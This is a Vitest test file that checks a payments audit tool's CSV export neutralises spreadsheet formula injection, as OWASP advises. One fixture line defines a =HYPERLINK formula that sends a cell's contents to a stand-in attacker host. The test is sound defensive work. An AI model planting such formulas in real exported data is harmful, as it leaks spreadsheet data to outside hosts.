// `audit --format csv` hands no formula to a spreadsheet: a business key (metadata anyone who creates a payment sets)
// starting with = + - @ opens as text, as OWASP advises for CSV injection.
import { describe, expect, it } from "vitest";
import { formatAudit, type AuditResult } from "../../../runtime/audit/index.js";

const hostileKey = '=HYPERLINK("https://evil.invalid/?"&A1,"refund")';

function resultWithKey(key: string, customer = "cus_1"): AuditResult {
  return {
    groups: [
      {
        confidence: "certain",
        customer,
        currency: "usd",
        amount: 1299,
        keep: "pi_keep",
        key,
        duplicates: [{ id: "pi_dup", flow: "paymentintents", remaining: 1299, refundTarget: { payment_intent: "pi_dup" } }],
      },
    ],
    disputed: [],
    resolved: [],
    examined: 2,
    keyed: 2,
    requests: { requests: 1, retries: 0, rateLimited: 0 },
  } as AuditResult;
}

/** RFC 4180 cells of one line (quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].map((m) => m[1] as string).filter((_, i, all) => i < all.length - 1 || all.length === 1);
}

describe("audit --format csv", () => {
  it("prefixes a formula-like cell with a single quote and quotes it", () => {
    const [, row] = formatAudit(resultWithKey(hostileKey), "csv").split("\n");
    // The key is the last but one cell; the last names the group's disputes (none here).
    const key = cells(row as string).at(-2) as string;
    expect(key).toBe(`"'${hostileKey.replaceAll('"', '""')}"`);
  });

  it("neutralises every formula start in every text cell, customer ids included", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      const [, row] = formatAudit(resultWithKey(`${start}1`, `${start}cus`), "csv").split("\n");
      expect(row).toContain(`"'${start}cus"`);
      expect(row).toContain(`"'${start}1"`);
    }
  });

  it("keeps the header and the numbers as they were", () => {
    const [header, row] = formatAudit(resultWithKey("usage-1"), "csv").split("\n");
    expect(header).toBe("confidence,customer,currency,amount,keep,duplicate,to_refund,key,disputes");
    expect(row).toBe('"certain","cus_1","usd",1299,"pi_keep","pi_dup",1299,"usage-1",""');
  });
});
